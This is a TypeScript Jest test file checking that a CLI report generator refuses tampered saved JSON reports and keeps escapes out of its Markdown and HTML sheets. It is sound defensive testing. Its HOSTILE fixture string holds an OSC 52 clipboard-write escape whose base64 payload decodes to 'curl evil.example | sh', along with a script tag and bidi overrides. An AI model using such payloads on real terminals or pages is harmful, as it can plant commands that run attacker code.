/**
 * `report --from` with a tampered saved report, through the built tool: ids, codes, dates and statuses
 * that do not have their form are refused (exit 2, the file and the field named); terminal escapes (an
 * OSC 52 clipboard write), NUL, BEL, bidirectional overrides and line breaks in free text never reach the
 * Markdown or HTML sheet, nor the error messages.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ROOT, runCli } from '../support/run-cli.js';

const OFFICE_465 = join(ROOT, 'test', 'fixtures', 'e2e', 'office365-465.yaml');
const env = { TACTIUM_CLIENT_SECRET: 'tampered-report-secret-123' };
const HOSTILE =
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 NUL\u0000 BEL\u0007 \u202eevil\u202c \u2066iso\u2069 \u061c new\nline\r\n| pipe | <b>bold</b><script>x()</script>';
/** What must never be in a sheet or a message: C0 (but newline), DEL, C1, the bidirectional controls. */
const FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

type Json = Record<string, unknown> & { accounts: Array<{ checks: Array<Record<string, unknown>> }> };
let directory: string;
let saved: Json;

beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'tp-report-tampered-'));
  const file = join(directory, 'saved.json');
  expect((await runCli(['check', OFFICE_465, '--only', 'config', '--format', 'json', '--output', file], { env })).code).toBe(1);
  saved = JSON.parse(readFileSync(file, 'utf8')) as Json;
});
afterAll(() => rmSync(directory, { recursive: true, force: true }));

function tampered(name: string, change: (report: Json) => void): string {
  const report = structuredClone(saved);
  change(report);
  const file = join(directory, name);
  writeFileSync(file, JSON.stringify(report));
  return file;
}

function failing(report: Json): Record<string, unknown> {
  return report.accounts[0]!.checks.find((check) => check.status === 'fail')!;
}

describe('report --from a tampered saved report', () => {
  const file = () =>
    tampered('free-text.json', (report) => {
      report.tool = { name: `tactium-preflight${HOSTILE}`, version: '0.1.0' };
      const from = report.verifiedFrom as Record<string, unknown>;
      Object.assign(from, { hostname: `pc${HOSTILE}`, platform: `linux${HOSTILE}`, proxy: `http://proxy:3128/${HOSTILE}`, addresses: [`192.0.2.1${HOSTILE}`] });
      const check = failing(report);
      Object.assign(check, {
        title: `title${HOSTILE}`,
        summary: `summary${HOSTILE}`,
        evidence: [{ label: `label${HOSTILE}`, value: `554 reply${HOSTILE}` }],
        remediation: [
          { kind: 'text', text: `step${HOSTILE}`, target: `target${HOSTILE}` },
          { kind: 'url', text: 'open', target: `https://example.com/${HOSTILE}` },
          { kind: 'command', text: 'run', target: `Set-Thing ${HOSTILE}` },
        ],
      });
      const skipped = report.accounts[0]!.checks.find((candidate) => candidate.status === 'skip' && candidate.reason !== null);
      if (skipped) skipped.reason = `reason${HOSTILE}`;
    });

  for (const format of ['markdown', 'html'] as const) {
    it(`renders the ${format} sheet with every control and bidirectional character of the free text kept out`, async () => {
      const result = await runCli(['report', OFFICE_465, '--from', file(), '--format', format, '--lang', 'en']);
      expect(result.code).toBe(1);
      expect(result.stderr).toBe('');
      expect(result.stdout).not.toMatch(FORBIDDEN);
      // Tags stay text: escaped in HTML and in Markdown's running text; raw only inside Markdown code spans
      // and fences, which show them as they are.
      const outsideCode =
        format === 'html'
          ? result.stdout
          : result.stdout
              .replace(/\\[\\`*_[\]<>|#~&]/g, '')
              .replace(/^ *(`{3,})[^\n]*\n[\s\S]*?^ *\1$/gm, '')
              .replace(/(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
      expect(outsideCode).not.toMatch(/<script|<b>/);
      // The text is still there, made visible: the reader sees that the file carried an escape.
      expect(result.stdout).toContain('\\x1b]52;c;');
      if (format === 'markdown') {
        // Every table row keeps its four pipes, and no line begins inside a tampered summary.
        for (const line of result.stdout.split('\n').filter((candidate) => candidate.startsWith('| '))) {
          expect([line, line.replace(/\\\|/g, '').split('|').length]).toEqual([line, 5]);
        }
        expect(result.stdout.split('\n').filter((line) => line.startsWith('line'))).toEqual([]);
      }
    });
  }

  const structural: Array<[string, (report: Json) => void, RegExp]> = [
    [
      'a check id that is not area.subject',
      (report) => (report.accounts[0]!.checks[0]!.id = `smtp.tls${HOSTILE}`),
      /accounts\.0\.checks\.0\.id, expected a check id like smtp\.tls/,
    ],
    ['a code that is not SCREAMING_SNAKE', (report) => (failing(report).code = 'SMTP_PORT\u202e'), /\.code, expected a code in SCREAMING_SNAKE/],
    [
      'a start that is not an ISO 8601 date',
      (report) => (report.startedAt = `2026-11-27T10:00:00.000Z${HOSTILE}`),
      /at startedAt, expected an ISO 8601 date and time/,
    ],
    [
      'a verification time that is not a date',
      (report) => ((report.verifiedFrom as Record<string, unknown>).at = 'yesterday'),
      /at verifiedFrom\.at, expected an ISO 8601 date and time/,
    ],
    ['a status outside the enumeration', (report) => (report.accounts[0]!.checks[0]!.status = 'pass\u0007'), /accounts\.0\.checks\.0\.status/],
    ['an unknown key made of escapes', (report) => (report[`x${HOSTILE}`] = 1), /\(root\)|Unrecognized key/],
  ];
  for (const [label, change, message] of structural) {
    it(`refuses ${label}: exit 2, the file and the field named, no control character echoed`, async () => {
      const path = tampered('structural.json', change);
      const result = await runCli(['report', OFFICE_465, '--from', path, '--lang', 'en']);
      expect(result.code).toBe(2);
      expect(result.stdout).toBe('');
      expect(result.stderr).toContain(`${path} is not a tactium-preflight JSON report`);
      expect(result.stderr).toMatch(message);
      expect(result.stderr.replace(/\n/g, '')).not.toMatch(FORBIDDEN);
      expect(result.stderr).not.toMatch(/\n\s+at /);
    });
  }

  it('quotes no control character of a file that is not JSON', async () => {
    const path = join(directory, 'broken.json');
    writeFileSync(path, `{"tool": \u001b]52;c;aGk=\u0007 \u202e}`);
    const result = await runCli(['report', OFFICE_465, '--from', path, '--lang', 'en']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('is not a JSON report');
    expect(result.stderr.replace(/\n/g, '')).not.toMatch(FORBIDDEN);
  });
});
